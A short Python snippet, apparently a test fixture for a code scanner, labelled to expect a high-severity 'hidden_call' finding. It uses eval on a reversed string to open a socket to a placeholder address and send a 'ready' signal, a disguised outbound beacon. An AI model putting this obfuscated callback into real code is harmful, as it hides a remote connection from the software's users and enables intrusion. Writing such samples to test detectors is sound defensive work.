# expect: HIGH hidden_call
payload = "))1009 ,'4.001.15.891'((noitcennoc_etaerc.)'tekcos'(__tropmi__"
conn = eval(payload[::-1])
conn.sendall(b"ready\n")
